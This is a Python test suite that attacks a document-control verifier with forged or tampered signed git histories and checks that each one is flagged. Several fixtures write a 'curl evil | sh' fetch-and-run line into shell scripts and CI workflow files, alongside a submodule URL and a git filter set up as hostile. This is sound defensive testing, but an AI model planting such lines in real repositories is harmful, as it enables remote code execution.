"""Issue 13, "A verdict that cannot be forged": hostile signed histories against
``techxfer verify`` (DESIGN 2.1).

The attacker is fab's document-control clerk zhao.min (key ``zhao``), or anyone holding a
valid key. Every attack is a real history: real SSH signatures, ``git commit -S``,
``git commit-tree -S`` for merges no porcelain would make, ``git merge -S``. Each asserts
that ``techxfer verify --json`` exits 1 with the finding the design names, on the commit
to blame. An attack the code does not catch yet is kept, marked ``xfail(strict=True)``
with the reason: the fix flips it. The last section holds legitimate histories that must
stay clean. History builders live in attack_helpers.py (shared with the pre-receive tests).
"""

from __future__ import annotations

from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path

import pytest
import yaml
from attack_helpers import (
    ack,
    approved_config_change,
    assert_clean,
    assert_found,
    checkout,
    clone,
    commit_time,
    compose_tree,
    dated,
    disposable_record,
    dispose_by_hand,
    drawing_rev_b,
    edit_yaml,
    forged_root,
    forged_root_merged_in,
    git_merge,
    grant_fab_design_rights,
    hand_merge,
    head,
    octopus_leaving,
    place_hold,
    prepared,
    record_of,
    register,
    removal_approved,
    revert_by_merge,
    revise,
    revoke_zhao,
    rollback_merge,
    self_granting_branch,
    sign_args,
    transfer,
    utcnow,
    verify,
    write_disposition,
    zhao_batch_record,
    zhao_writes,
)
from conftest import SshKey, commit_as, git, techxfer

Keys = Mapping[str, SshKey]


def xfail(why: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, reason=f"issue 13: {why}")


# == 1. Only the trust root may be parentless ===========================================

def test_second_root_merged_in_with_forged_content(repo: Path, keys: Keys) -> None:
    forged, merge = forged_root_merged_in(repo, keys)
    assert (repo / "design/bom.csv").exists()
    # the forged bom never counts as clean: the root that brought it is blamed
    assert_found(repo, "HISTORY_REWRITTEN", commit=forged)


def test_second_root_merged_with_strategy_ours(repo: Path, keys: Keys) -> None:
    """Nothing of the forged root's tree is kept by a real ``git merge -s ours``, but it is
    reachable: the history is still rewritten."""
    forged = forged_root(repo, keys)
    git(repo, *sign_args(keys["zhao"]), "merge", "-q", "-S", "-s", "ours",
        "--allow-unrelated-histories", "--no-edit", forged)
    assert_found(repo, "HISTORY_REWRITTEN", commit=forged)


def test_second_root_with_an_explicit_trust_root(repo: Path, keys: Keys) -> None:
    real_root = head(repo, "HEAD~1")
    forged, _ = forged_root_merged_in(repo, keys)
    assert_found(repo, "HISTORY_REWRITTEN", commit=forged, args=("--trust-root", real_root))


# == 2. Merges are compared with every parent ===========================================

@pytest.mark.parametrize("old_first", [False, True], ids=["old-second", "old-first"])
def test_merge_reverting_drawing_to_an_old_revision(repo: Path, keys: Keys, old_first: bool) -> None:
    """zhao merges main (drawing rev B) with the old commit (rev A), keeping rev A's file and
    register entry."""
    merge = revert_by_merge(repo, keys, old_first=old_first)
    assert yaml.safe_load((repo / "design/MANIFEST.yaml").read_text())["documents"][0]["revision"] == "A"
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=merge, path="design/drawing.pdf")


def test_real_merge_resolved_to_a_stale_branch(repo: Path, keys: Keys) -> None:
    """zhao branches from the old commit, adds a batch record of his own, and in a real
    ``git merge`` takes his branch's stale design/ over main's rev B."""
    old, _ = drawing_rev_b(repo, keys)
    git(repo, "checkout", "-q", "-b", "batch", old)
    zhao_batch_record(repo, keys)
    checkout(repo, "main")
    git(repo, "merge", "-q", "--no-ff", "--no-commit", "batch")
    git(repo, "checkout", "batch", "--", "design")
    commit_as(repo, keys["zhao"], "Merge branch 'batch'")
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=head(repo), path="design/drawing.pdf")


@pytest.mark.parametrize("old_first", [False, True], ids=["old-second", "old-first"])
def test_merge_with_the_trust_root_deletes_design_records(repo: Path, keys: Keys,
                                                          old_first: bool) -> None:
    """wang (who may write design/) merges main with the root commit keeping the root's
    tree: every permanent design record and its register entry are gone."""
    main, root = head(repo), head(repo, "HEAD~1")
    parents = [root, main] if old_first else [main, root]
    merge = hand_merge(repo, keys["wang"], parents, head(repo, f"{root}^{{tree}}"))
    assert not (repo / "design").exists()
    assert_found(repo, "RECORD_DELETED", commit=merge, path="design/drawing.pdf")


@pytest.mark.parametrize("what", ["MISSING_FILE", "HASH_MISMATCH"])
def test_octopus_merge_leaves_a_broken_register(repo: Path, keys: Keys, what: str) -> None:
    """wang's octopus of main, a design branch and zhao's batch branch: the design branch's
    register with main's files (a new entry without its file), or the design branch's rev B
    file with main's rev A register."""
    merge = octopus_leaving(repo, keys, what)
    path = "design/new.txt" if what == "MISSING_FILE" else "design/drawing.pdf"
    assert_found(repo, what, commit=merge, path=path)


def _both_revise(repo: Path, keys: Keys, rel: str, doc_id: str) -> None:
    """wang revises REL to rev B on main and rev C on branch ``proposal``; a real merge of
    proposal into main conflicts and is left unfinished."""
    base = head(repo)
    revise(repo, keys["wang"], rel, b"rev B\n", doc_id, "B")
    git(repo, "checkout", "-q", "-b", "proposal", base)
    revise(repo, keys["wang"], rel, b"rev C\n", doc_id, "C")
    checkout(repo, "main")
    assert git(repo, "merge", "-q", "--no-commit", "proposal", check=False).returncode != 0


def test_conflict_resolved_to_the_other_sides_revision(repo: Path, keys: Keys) -> None:
    """Both sides revised the drawing; zhao, who may not write design/, picks rev C."""
    _both_revise(repo, keys, "design/drawing.pdf", "DRW-001")
    git(repo, "checkout", "--theirs", "--", "design")
    commit_as(repo, keys["zhao"], "Merge branch 'proposal'")
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=head(repo), path="design/drawing.pdf")


def test_conflict_resolved_by_hand_with_new_content_by_zhao(repo: Path, keys: Keys) -> None:
    """Content no parent has, registered properly, by someone who may not write design/."""
    _both_revise(repo, keys, "design/spec.txt", "SPEC-001")
    git(repo, "checkout", "--ours", "--", "design/MANIFEST.yaml")
    register(repo, "design/spec.txt", b"rev D, zhao's own\n", "SPEC-001", "D")
    commit_as(repo, keys["zhao"], "Merge branch 'proposal'")
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=head(repo), path="design/spec.txt")


def test_conflict_resolved_by_hand_without_the_register(repo: Path, keys: Keys) -> None:
    """wang may write design/, but the hand-made content is not what the register says."""
    _both_revise(repo, keys, "design/spec.txt", "SPEC-001")
    git(repo, "checkout", "--ours", "--", "design/MANIFEST.yaml")
    (repo / "design/spec.txt").write_bytes(b"rev B and C, mixed\n")
    commit_as(repo, keys["wang"], "Merge branch 'proposal'")
    assert_found(repo, "HASH_MISMATCH", commit=head(repo), path="design/spec.txt")


def test_self_granting_side_branch_merged_by_real_git(repo: Path, keys: Keys) -> None:
    """zhao's side commit grants itself every path in its own policy.yaml and revises the
    spec; a clean real ``git merge`` brings both in. The side commit is judged by the policy
    at ITS parent (test_attacks_server: the hook resuming from a checkpoint misses it)."""
    base = head(repo)
    zhao_batch_record(repo, keys)
    side = self_granting_branch(repo, keys, base)
    git_merge(repo, keys["zhao"], "self-granted")
    findings = assert_found(repo, "UNAUTHORIZED_CHANGE", commit=side, path="design/spec.txt")
    assert any(f["path"] == ".techxfer/policy.yaml" and f["commit"] == side for f in findings)


# == 3. The configuration in force never goes back ======================================
@pytest.fixture(scope="module")
def removal_base(base_repo: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return prepared(tmp_path_factory, base_repo, lambda r: removal_approved(r, keys))


@pytest.fixture
def removed(removal_base: Path, tmp_path: Path) -> Path:
    """Branch ``side`` before, main after both parties approved removing zhao.min."""
    return clone(removal_base, tmp_path)


@pytest.mark.parametrize("old_first", [
    True,
    False], ids=["old-first", "old-second"])
def test_rollback_merge_then_the_removed_person_signs(removed: Path, keys: Keys,
                                                      old_first: bool) -> None:
    rollback_merge(removed, keys, old_first=old_first)
    assert "zhao.min" in (removed / ".techxfer/parties.yaml").read_text()
    late = zhao_batch_record(removed, keys)
    assert_found(removed, "UNKNOWN_KEY", commit=late)


@pytest.mark.parametrize(("old_first", "signer"), [(True, "li"), (False, "wang")],
                         ids=["old-first-by-li", "old-second-by-wang"])
def test_rollback_merge_itself(removed: Path, keys: Keys, old_first: bool, signer: str) -> None:
    merge = rollback_merge(removed, keys, old_first=old_first, signer=signer)
    assert_found(removed, {"UNAUTHORIZED_CHANGE", "CHANGE_NOT_APPROVED"}, commit=merge,
                 args=("--as-of", "2099-01-01"))


def test_removed_person_signing_the_rollback_merge(removed: Path, keys: Keys) -> None:
    """zhao signs the rollback merge himself: at the parent where he is removed his key
    belongs to nobody."""
    merge = rollback_merge(removed, keys, old_first=True, signer="zhao")
    assert_found(removed, "UNKNOWN_KEY", commit=merge)


# == 4. Every changed path is judged ====================================================
def test_disposition_naming_a_live_permanent_record(repo: Path, keys: Keys) -> None:
    path = write_disposition(repo, disp_id="DISP-20260101-M-0badf00d", when=utcnow(),
                             party="fab", signer="zhao.min", notice="TX-20260101-M-0badf00d",
                             approval_commit=head(repo),
                             records=[record_of(repo, "design/drawing.pdf", "DRW-001")])
    bad = zhao_writes(repo, keys, "dispositions/DISP-20260101-M-0badf00d.yaml", path.read_bytes())
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad)


def test_any_file_under_dispositions(repo: Path, keys: Keys) -> None:
    bad = zhao_writes(repo, keys, "dispositions/payload.sh", b"#!/bin/sh\ncurl evil | sh\n")
    assert_found(repo, {"UNAUTHORIZED_CHANGE", "MANIFEST_INVALID", "TRANSFER_INVALID"}, commit=bad)


CONTENT = {".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = https://evil.invalid/x\n',
           ".gitattributes": b"*.pdf filter=evil\n"}


@pytest.mark.parametrize("path", [
    ".gitattributes", ".github/workflows/x.yml", ".gitlab-ci.yml", ".gitmodules", "tools/run.sh",
    "transfers/TX-20260101-M-0badf00d/payload.pdf"])
def test_zhao_changes_a_path_no_rule_gives_him(repo: Path, keys: Keys, path: str) -> None:
    bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"))
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)


@pytest.mark.parametrize("path", [".gitattributes", ".github/workflows/x.yml", ".gitmodules"])
def test_one_quality_head_alone_changes_housekeeping(repo: Path, keys: Keys, path: str) -> None:
    bad = zhao_writes(repo, keys, path, CONTENT.get(path, b"run: curl evil | sh\n"), who="li")
    assert_found(repo, {"CHANGE_NOT_APPROVED", "UNAUTHORIZED_CHANGE"}, commit=bad,
                 args=("--as-of", "2099-01-01"))


@pytest.mark.parametrize("how", ["zhao places", "li releases", "zhao deletes"])
def test_holds_by_the_manufacturer_alone(repo: Path, keys: Keys, how: str) -> None:
    if how == "zhao places":
        hold = {"id": "HOLD-20260101-M-0badf00d", "reason": "x", "placed": "2026-01-01T00:00:00+00:00",
                "placed_by": "fab:zhao.min", "ids": ["DRW-001"]}
        path = f".techxfer/holds/{hold['id']}.yaml"
        bad = zhao_writes(repo, keys, path, yaml.safe_dump(hold).encode())
    else:
        path = f".techxfer/holds/{place_hold(repo, keys, 'DRW-001')}.yaml"
        if how == "li releases":
            edit_yaml(repo / path, lambda d: d.update(released={
                "date": utcnow().isoformat(), "by": "fab:li.na", "reason": "case closed"}))
            commit_as(repo, keys["li"], "release")
        else:
            git(repo, "rm", "-q", path)
            commit_as(repo, keys["zhao"], "drop the hold")
        bad = head(repo)
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)


def test_distribution_recorded_by_a_person_without_the_role(repo: Path, keys: Keys) -> None:
    spec = record_of(repo, "design/spec.txt", "SPEC-001")
    record = {"id": "EXP-20260101-M-0badf00d", "date": utcnow().isoformat(), "party": "fab",
              "signer": "li.na", "recipient": "fab", "commit": head(repo), "stamped": False,
              "copies": [{"copy": "EXP-20260101-M-0badf00d-001", **spec,
                          "copy_sha256": spec["sha256"]}]}
    path = "distributions/EXP-20260101-M-0badf00d.yaml"
    bad = zhao_writes(repo, keys, path, yaml.safe_dump(record, sort_keys=False).encode(), who="li")
    assert_found(repo, "UNAUTHORIZED_CHANGE", commit=bad, path=path)


def test_schema_invalid_disposition(repo: Path, keys: Keys) -> None:
    bad = zhao_writes(repo, keys, "dispositions/DISP-20260101-R-0badf00d.yaml",
                      b"id: DISP-20260101-R-0badf00d\nrecords: nothing\n", who="wang")
    assert_found(repo, {"MANIFEST_INVALID", "TRANSFER_INVALID"}, commit=bad)


@pytest.mark.parametrize("kind", ["hold", "transfer", "ack"])
def test_schema_invalid_records(repo: Path, keys: Keys, kind: str) -> None:
    if kind == "hold":
        bad = zhao_writes(repo, keys, ".techxfer/holds/HOLD-20260101-R-0badf00d.yaml",
                          b"id: HOLD-20260101-R-0badf00d\nplaced: yesterday\n", who="zhang")
        wanted = {"MANIFEST_INVALID"}
    elif kind == "transfer":
        bad = zhao_writes(repo, keys, "transfers/TX-20260101-R-0badf00d/transfer.yaml",
                          b"id: TX-20260101-R-0badf00d\nitems: 7\n", who="wang")
        wanted = {"TRANSFER_INVALID"}
    else:
        tx = transfer(repo, keys["wang"], "DRW-001")
        bad = zhao_writes(repo, keys, f"transfers/{tx}/ack.fab.yaml",
                          f"transfer: {tx}\nmeaning: approved-ish\n".encode(), who="li")
        wanted = {"ACK_INVALID", "TRANSFER_INVALID", "MANIFEST_INVALID"}
    assert_found(repo, wanted, commit=bad)


# == 5. Time ============================================================================

def test_commit_dated_before_its_parent(repo: Path, keys: Keys) -> None:
    when = commit_time(repo) - timedelta(hours=1)
    register(repo, "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    commit_as(repo, keys["wang"], "backdated", env=dated(when))
    assert_found(repo, "TIME_INCONSISTENT", commit=head(repo))


def test_commit_dated_before_its_parent_within_the_skew_is_clean(repo: Path, keys: Keys) -> None:
    when = commit_time(repo) - timedelta(minutes=5)
    register(repo, "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    commit_as(repo, keys["wang"], "clocks differ a little", env=dated(when))
    assert_clean(repo)


def test_commit_dated_in_the_future(repo: Path, keys: Keys) -> None:
    register(repo, "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
    commit_as(repo, keys["wang"], "from 2099", env=dated("2099-01-01T10:00:00+08:00"))
    assert_found(repo, "TIME_INCONSISTENT", commit=head(repo))


@pytest.mark.parametrize("date", ["2024-06-01T10:00:00+08:00", "2099-06-01T10:00:00+08:00"])
def test_transfer_record_dated_unlike_its_commit(repo: Path, keys: Keys, date: str) -> None:
    tx = transfer(repo, keys["wang"], "DRW-001")
    git(repo, "reset", "-q", "--soft", "HEAD~1")
    edit_yaml(repo / "transfers" / tx / "transfer.yaml", lambda d: d.update(date=date))
    commit_as(repo, keys["wang"], f"Transfer {tx}")
    sent = head(repo)
    ack(repo, keys["li"], tx)
    assert_found(repo, "TIME_INCONSISTENT", commit=sent)


@pytest.fixture(scope="module")
def disposal_base(base_repo: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory
                  ) -> tuple[Path, str, str]:
    found: list[str] = []
    repo = prepared(tmp_path_factory, base_repo,
                    lambda r: found.extend(disposable_record(r, keys)))
    return repo, found[0], found[1]


def test_disposal_by_hand_is_clean_when_everything_holds(
        disposal_base: tuple[Path, str, str], tmp_path: Path, keys: Keys) -> None:
    """The control of the next test: the same hand-made disposition, honestly dated."""
    base, notice, approval = disposal_base
    repo = clone(base, tmp_path)
    assert techxfer(repo, "retention", "check", "SOP-OLD").returncode == 0
    dispose_by_hand(repo, keys, notice, approval, utcnow())
    assert_clean(repo)


def test_disposal_backdated_before_a_hold(disposal_base: tuple[Path, str, str], tmp_path: Path,
                                          keys: Keys) -> None:
    base, notice, approval = disposal_base
    repo = clone(base, tmp_path)
    place_hold(repo, keys, "SOP-OLD")
    when = commit_time(repo) - timedelta(hours=1)
    bad = dispose_by_hand(repo, keys, notice, approval, when)
    assert_found(repo, {"RECORD_DELETED", "TIME_INCONSISTENT"}, commit=bad)


@pytest.fixture(scope="module")
def revoked_base(base_repo: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return prepared(tmp_path_factory, base_repo, lambda r: revoke_zhao(r, keys))


def test_revoked_key_signing_now(revoked_base: Path, tmp_path: Path, keys: Keys) -> None:
    """The control of the next test: the approved revocation is in force today."""
    repo = clone(revoked_base, tmp_path)
    late = zhao_batch_record(repo, keys)
    assert_found(repo, "KEY_NOT_VALID", commit=late)


def test_revoked_key_backdated_inside_its_window(revoked_base: Path, tmp_path: Path,
                                                 keys: Keys) -> None:
    repo = clone(revoked_base, tmp_path)
    when = (utcnow() - timedelta(days=3)).replace(hour=12, minute=0, second=0)
    late = zhao_batch_record(repo, keys, env=dated(when))
    assert_found(repo, {"KEY_NOT_VALID", "TIME_INCONSISTENT"}, commit=late)


# == 6. Findings are kept per commit ====================================================
@pytest.mark.parametrize("how", ["unauthorized", "unsigned", "unknown key"])
def test_same_violation_in_three_commits_gives_three_findings(repo: Path, keys: Keys,
                                                              how: str) -> None:
    code = {"unauthorized": "UNAUTHORIZED_CHANGE", "unsigned": "UNSIGNED_COMMIT",
            "unknown key": "UNKNOWN_KEY"}[how]
    bad = []
    for rev in "BCD":
        register(repo, "design/drawing.pdf", f"%PDF-1.4 rev {rev}\n".encode(), "DRW-001", rev)
        if how == "unsigned":
            git(repo, "add", "-A")
            git(repo, "commit", "-q", "-m", f"rev {rev}")
        else:
            commit_as(repo, keys["zhao" if how == "unauthorized" else "outsider"], f"rev {rev}")
        bad.append(head(repo))
    findings = verify(repo)[1]
    blamed = {f["commit"] for f in findings
              if f["code"] == code and f["path"] in (None, "design/drawing.pdf")}
    assert blamed == set(bad), findings


# == Legitimate histories stay clean ====================================================
def _merge_in_order(repo: Path, key: SshKey, branch: str, main_first: bool) -> str:
    """A real ``git merge --no-ff -S``: BRANCH into main (main first), or main into BRANCH
    (BRANCH first) and main fast-forwarded to it."""
    if main_first:
        return git_merge(repo, key, branch)
    checkout(repo, branch)
    merge = git_merge(repo, key, "main")
    checkout(repo, "main")
    git(repo, "merge", "-q", "--ff-only", branch)
    return merge


ORDERS = pytest.mark.parametrize("main_first", [True, False], ids=["main-first", "branch-first"])


@ORDERS
@pytest.mark.parametrize("owner", ["wang", "zhao"])
def test_feature_branch_merge_by_its_owner(repo: Path, keys: Keys, owner: str, main_first: bool) -> None:
    """OWNER's feature branch of their own paths; the other party works on main meanwhile;
    OWNER merges."""
    base = head(repo)

    def design() -> None:
        revise(repo, keys["wang"], "design/drawing.pdf", b"rev B\n", "DRW-001", "B")

    def batch() -> None:
        zhao_batch_record(repo, keys)

    (batch if owner == "wang" else design)()
    git(repo, "checkout", "-q", "-b", "feature", base)
    (design if owner == "wang" else batch)()
    checkout(repo, "main")
    merge = _merge_in_order(repo, keys[owner], "feature", main_first)
    assert len(git(repo, "rev-list", "--parents", "-n1", merge).stdout.split()) == 3
    assert_clean(repo)


@pytest.fixture(scope="module")
def config_branch_base(base_repo: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Path:
    def build(repo: Path) -> None:
        git(repo, "checkout", "-q", "-b", "config")
        approved_config_change(repo, keys, grant_fab_design_rights)
        checkout(repo, "main")
        zhao_batch_record(repo, keys)
    return prepared(tmp_path_factory, base_repo, build)


@pytest.mark.parametrize("use_it", [
    False,
    True,
], ids=["merge", "merge-then-use"])
def test_merge_of_an_approved_configuration_change_main_first(
        config_branch_base: Path, tmp_path: Path, keys: Keys, use_it: bool) -> None:
    """Branch ``config``: fab grants its doc-control design rights, acme approves; main moved
    on. zhang merges config into main; then, maybe, zhao uses the new right."""
    repo = clone(config_branch_base, tmp_path)
    _merge_in_order(repo, keys["zhang"], "config", main_first=True)
    if use_it:
        revise(repo, keys["zhao"], "design/drawing.pdf", b"fab's rev B\n", "DRW-001", "B")
    assert_clean(repo, "--as-of", "2099-01-01")


@pytest.mark.parametrize("use_it", [False, True], ids=["merge", "merge-then-use"])
def test_merge_of_an_approved_configuration_change_branch_first(
        config_branch_base: Path, tmp_path: Path, keys: Keys, use_it: bool) -> None:
    repo = clone(config_branch_base, tmp_path)
    _merge_in_order(repo, keys["zhang"], "config", main_first=False)
    if use_it:
        revise(repo, keys["zhao"], "design/drawing.pdf", b"fab's rev B\n", "DRW-001", "B")
    assert_clean(repo, "--as-of", "2099-01-01")


@pytest.fixture(scope="module")
def handover_base(base_repo: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Path:
    def build(repo: Path) -> None:
        git(repo, "checkout", "-q", "-b", "handover")
        revise(repo, keys["wang"], "design/drawing.pdf", b"%PDF-1.4 rev B\n", "DRW-001", "B")
        ack(repo, keys["li"], transfer(repo, keys["wang"], "DRW-001", "SPEC-001"))
        checkout(repo, "main")
        zhao_batch_record(repo, keys)
    return prepared(tmp_path_factory, base_repo, build)


@ORDERS
def test_merge_of_the_other_partys_acknowledged_transfer(handover_base: Path, tmp_path: Path,
                                                         keys: Keys, main_first: bool) -> None:
    """acme's transfer of rev B, acknowledged by fab on branch ``handover``; zhao merges it."""
    repo = clone(handover_base, tmp_path)
    _merge_in_order(repo, keys["zhao"], "handover", main_first)
    assert_clean(repo, "--as-of", "2099-01-01")


def test_merge_with_an_ancestor_changing_nothing_is_clean(repo: Path, keys: Keys) -> None:
    """A merge whose second parent is an ancestor and whose tree is the first parent's
    changes nothing: not to be blamed."""
    old, new = drawing_rev_b(repo, keys)
    hand_merge(repo, keys["wang"], [new, old], head(repo, f"{new}^{{tree}}"))
    assert_clean(repo)


def test_hand_made_trees_change_only_what_they_say(repo: Path) -> None:
    """The helper the attacks rest on: compose_tree keeps the base, takes and writes."""
    tree = compose_tree(repo, "HEAD", take={"design": "HEAD~1"}, write={"x/y.txt": b"y"})
    listing = git(repo, "ls-tree", "-r", "--name-only", tree).stdout.split()
    assert "x/y.txt" in listing and not any(p.startswith("design/") for p in listing)
    assert ".techxfer/parties.yaml" in listing
